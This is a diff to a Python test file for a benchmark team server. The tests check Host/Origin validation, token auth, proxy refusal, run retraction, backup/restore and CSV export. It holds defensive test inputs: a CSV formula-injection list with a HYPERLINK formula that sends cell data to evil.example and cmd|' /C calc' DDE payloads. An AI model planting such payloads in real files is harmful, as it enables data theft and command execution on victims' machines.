@@ -1,5 +1,6 @@
 """A team server's writes: Host/Origin checks, a same-host proxy gets nothing, retraction (API and CLI) by the
 uploader or an admin only, backup -> restore, and the Regressions CSV safe to open in a spreadsheet."""
+
 from __future__ import annotations
 
 import csv
@@ -28,15 +29,22 @@ from tests.store_fixtures import server_store
 
 JSON = {"content-type": "application/json"}
 TOKENS = {"ci-mac-1": "tok-ci", "alice": "tok-alice", "ops": "tok-ops"}
-BASELINE_BUILD = {"torch_version": "2.14.1", "channel": "stable", "python_version": "3.11.7",
-                  "collector_version": "0.1.0"}
+BASELINE_BUILD = {
+    "torch_version": "2.14.1",
+    "channel": "stable",
+    "python_version": "3.11.7",
+    "collector_version": "0.1.0",
+}
 
 
 @pytest.fixture
 def store(tmp_path, monkeypatch):
-    with server_store(monkeypatch, tmp_path / "team.duckdb",
-                      MPSBENCH_UPLOAD_TOKENS=f"ci-mac-1={TOKENS['ci-mac-1']},alice={TOKENS['alice']}",
-                      MPSBENCH_ADMIN_TOKENS=f"ops={TOKENS['ops']}"):
+    with server_store(
+        monkeypatch,
+        tmp_path / "team.duckdb",
+        MPSBENCH_UPLOAD_TOKENS=f"ci-mac-1={TOKENS['ci-mac-1']},alice={TOKENS['alice']}",
+        MPSBENCH_ADMIN_TOKENS=f"ops={TOKENS['ops']}",
+    ):
         yield db.store.engine.shared_store()
 
 
@@ -57,15 +65,18 @@ def _count(engine, table: str) -> int:
         return conn.execute(text(f"SELECT count(*) FROM {table}")).scalar()
 
 
-@pytest.mark.parametrize(("headers", "status"), [
-    ({"host": "evil.example"}, 403),  # DNS rebinding: evil.example resolved to 127.0.0.1
-    ({"host": "evil.example:8501"}, 403),
-    ({"host": "127.0.0.1:8501", "origin": "http://evil.example"}, 403),
-    ({"host": "127.0.0.1:8501", "origin": "null"}, 403),
-    ({"host": "evil.example", "x-forwarded-host": "localhost"}, 403),  # not from a trusted proxy: ignored
-    ({"host": "localhost:8501", "origin": "http://localhost:8501"}, 201),
-    ({"host": "[::1]:8501"}, 201),
-])
+@pytest.mark.parametrize(
+    ("headers", "status"),
+    [
+        ({"host": "evil.example"}, 403),  # DNS rebinding: evil.example resolved to 127.0.0.1
+        ({"host": "evil.example:8501"}, 403),
+        ({"host": "127.0.0.1:8501", "origin": "http://evil.example"}, 403),
+        ({"host": "127.0.0.1:8501", "origin": "null"}, 403),
+        ({"host": "evil.example", "x-forwarded-host": "localhost"}, 403),  # not from a trusted proxy: ignored
+        ({"host": "localhost:8501", "origin": "http://localhost:8501"}, 201),
+        ({"host": "[::1]:8501"}, 201),
+    ],
+)
 def test_host_and_origin_are_checked_before_anything_else(store, headers, status):
     bundle = make_bundle()
     response = _client().post("/api/v1/runs", content=json.dumps(bundle), headers=JSON | _auth("alice") | headers)
@@ -93,12 +104,14 @@ def test_reads_need_a_token_only_when_read_tokens_are_set(store, monkeypatch):
     assert _client().get("/api/v1/runs").status_code == 401
     assert _client().get("/api/v1/runs", headers={"authorization": "Bearer tok-read"}).status_code == 200
     assert _client().get("/api/v1/runs", headers=_auth("alice")).status_code == 200  # a writer may read
-    refused = _client().post("/api/v1/runs", content=json.dumps(make_bundle()),
-                             headers=JSON | {"authorization": "Bearer tok-read"})
+    refused = _client().post(
+        "/api/v1/runs", content=json.dumps(make_bundle()), headers=JSON | {"authorization": "Bearer tok-read"}
+    )
     assert refused.status_code == 403 and _count(store, "runs") == 0
 
 
 # --- a same-host reverse proxy that forwards without X-Forwarded-For (or with a forged one) --------------------
+
 
 def _free_port() -> int:
     with socket.socket() as s:
@@ -120,8 +133,9 @@ def _proxy(upstream: str) -> Starlette:
     async def forward(request: Request) -> Response:
         headers = {k: v for k, v in request.headers.items() if k not in ("content-length", "transfer-encoding")}
         async with httpx.AsyncClient() as client:
-            got = await client.request(request.method, upstream + request.url.path, headers=headers,
-                                       content=await request.body())
+            got = await client.request(
+                request.method, upstream + request.url.path, headers=headers, content=await request.body()
+            )
         return Response(got.content, got.status_code, media_type=got.headers.get("content-type"))
 
     return Starlette(routes=[Route("/{path:path}", forward, methods=["GET", "POST", "DELETE"])])
@@ -156,8 +170,9 @@ def test_a_same_host_proxy_without_token_is_refused_and_nothing_stored(proxied, 
     response = httpx.post(proxy + "/api/v1/runs", content=json.dumps(bundle), headers=JSON | forged, timeout=30)
     assert response.status_code == 401 and response.json()["errors"][0]["field"] == "Authorization"
     assert _count(store, "runs") == 0
-    through = httpx.post(proxy + "/api/v1/runs", content=json.dumps(bundle), headers=JSON | _auth("ci-mac-1"),
-                         timeout=30)
+    through = httpx.post(
+        proxy + "/api/v1/runs", content=json.dumps(bundle), headers=JSON | _auth("ci-mac-1"), timeout=30
+    )
     assert through.status_code == 201 and _count(store, "runs") == 1
 
 
@@ -169,10 +184,14 @@ def test_a_proxy_passing_another_host_name_is_refused(proxied, store):
 
 # --- retraction -----------------------------------------------------------------------------------------------
 
+
 def _three_runs(client) -> dict:
     """A baseline (2.14.1) and two candidate runs (2.15.0rc1): alice's is 10× slower on op_time."""
-    runs = {"base": make_bundle(build=BASELINE_BUILD), "ci": make_bundle(),
-            "alice": make_bundle(results=[make_result(samples=[71.0, 73.0, 72.0, 90.0])])}
+    runs = {
+        "base": make_bundle(build=BASELINE_BUILD),
+        "ci": make_bundle(),
+        "alice": make_bundle(results=[make_result(samples=[71.0, 73.0, 72.0, 90.0])]),
+    }
     for key, who in (("base", "ci-mac-1"), ("ci", "ci-mac-1"), ("alice", "alice")):
         assert client.post("/api/v1/runs", content=json.dumps(runs[key]), headers=JSON | _auth(who)).status_code == 201
     return {k: b["run_id"] for k, b in runs.items()}
@@ -180,8 +199,11 @@ def _three_runs(client) -> dict:
 
 def _op_time_case(client) -> dict:
     cases = client.get("/api/v1/compare", params={"baseline": "torch=2.14.1", "candidate": "torch=2.15.0rc1"})
-    return next(c for c in cases.json()["cases"] if c["metric"] == "op_time" and c["unit"] == "µs"
-                and json.loads(c["case_key"]) == {"rows": 1, "vocab": 128256})
+    return next(
+        c
+        for c in cases.json()["cases"]
+        if c["metric"] == "op_time" and c["unit"] == "µs" and json.loads(c["case_key"]) == {"rows": 1, "vocab": 128256}
+    )
 
 
 def test_retract_by_another_uploader_is_403_by_the_owner_200_and_the_run_leaves_compare(store):
@@ -203,8 +225,10 @@ def test_retract_by_another_uploader_is_403_by_the_owner_200_and_the_run_leaves_
     assert case["candidate_median"] == case["baseline_median"]  # ci's samples are the baseline's
     listed = {r["run_id"]: r for r in client.get("/api/v1/runs").json()["runs"]}
     assert len(listed) == 3  # still listed, with who, when and why
-    assert (listed[ids["alice"]]["retracted_by"], listed[ids["alice"]]["retraction_reason"]) == ("alice",
-                                                                                                 "ran on battery")
+    assert (listed[ids["alice"]]["retracted_by"], listed[ids["alice"]]["retraction_reason"]) == (
+        "alice",
+        "ran on battery",
+    )
     assert listed[ids["alice"]]["uploaded_by"] == "alice" and listed[ids["alice"]]["retracted_at"]
     assert listed[ids["ci"]]["retracted_at"] is None
     again = client.request("DELETE", url, json={"reason": "twice"}, headers=_auth("alice"))
@@ -218,10 +242,14 @@ def test_an_admin_may_retract_any_run_and_unknown_runs_are_404(store):
     ids = _three_runs(client)
     done = client.request("DELETE", f"/api/v1/runs/{ids['ci']}", json={"reason": "bad build"}, headers=_auth("ops"))
     assert done.status_code == 200 and done.json()["retracted_by"] == "ops"
-    assert client.request("DELETE", f"/api/v1/runs/{'0' * 32}", json={"reason": "x"},
-                          headers=_auth("ops")).status_code == 404
-    assert client.request("DELETE", "/api/v1/runs/NOT-A-RUN", json={"reason": "x"},
-                          headers=_auth("ops")).status_code == 422
+    assert (
+        client.request("DELETE", f"/api/v1/runs/{'0' * 32}", json={"reason": "x"}, headers=_auth("ops")).status_code
+        == 404
+    )
+    assert (
+        client.request("DELETE", "/api/v1/runs/NOT-A-RUN", json={"reason": "x"}, headers=_auth("ops")).status_code
+        == 422
+    )
 
 
 def test_cli_retract_against_the_local_store_and_against_a_server(proxied, store, monkeypatch, capsys):
@@ -242,6 +270,7 @@ def test_cli_retract_against_the_local_store_and_against_a_server(proxied, store
 
 # --- backup and restore ---------------------------------------------------------------------------------------
 
+
 def _dump(path) -> dict:
     engine = db.store.engine.open_store(str(path))
     try:
@@ -252,15 +281,16 @@ def _dump(path) -> dict:
         engine.dispose()
 
 
-def test_backup_then_restore_gives_the_same_rows_and_refuses_non_empty_targets(store, tmp_path, monkeypatch,
-                                                                             capsys):
+def test_backup_then_restore_gives_the_same_rows_and_refuses_non_empty_targets(store, tmp_path, monkeypatch, capsys):
     client = _client()
     ids = _three_runs(client)
     client.request("DELETE", f"/api/v1/runs/{ids['alice']}", json={"reason": "r"}, headers=_auth("alice"))
     path = tmp_path / "team.duckdb"
     store.dispose()  # the server stopped: one process per DuckDB file
     before = _dump(path)
-    assert set(before) >= {"runs", "results", "retracted_results", "review_notes"} and len(before["results"]) == 12  # alice's one moved aside
+    assert (
+        set(before) >= {"runs", "results", "retracted_results", "review_notes"} and len(before["results"]) == 12
+    )  # alice's one moved aside
     assert db_cli(["backup", str(tmp_path / "bk")]) == 0
     assert db_cli(["backup", str(tmp_path / "bk")]) == 1 and "not an empty folder" in capsys.readouterr().out
     monkeypatch.setenv("MPSBENCH_DB", str(tmp_path / "restored.duckdb"))
@@ -273,9 +303,17 @@ def test_backup_then_restore_gives_the_same_rows_and_refuses_non_empty_targets(s
 
 # --- exports --------------------------------------------------------------------------------------------------
 
-HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
-                 "-2+3+cmd|' /C calc'!A0", "\tTAB=1+1", "\rCR first", "bare\rcarriage return", "line\nfeed",
-                 "crlf\r\ninside"]
+HOSTILE_CELLS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|'/C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\tTAB=1+1",
+    "\rCR first",
+    "bare\rcarriage return",
+    "line\nfeed",
+    "crlf\r\ninside",
+]
 
 
 def test_regressions_csv_neutralises_formulas_and_quotes_every_cr_and_lf():
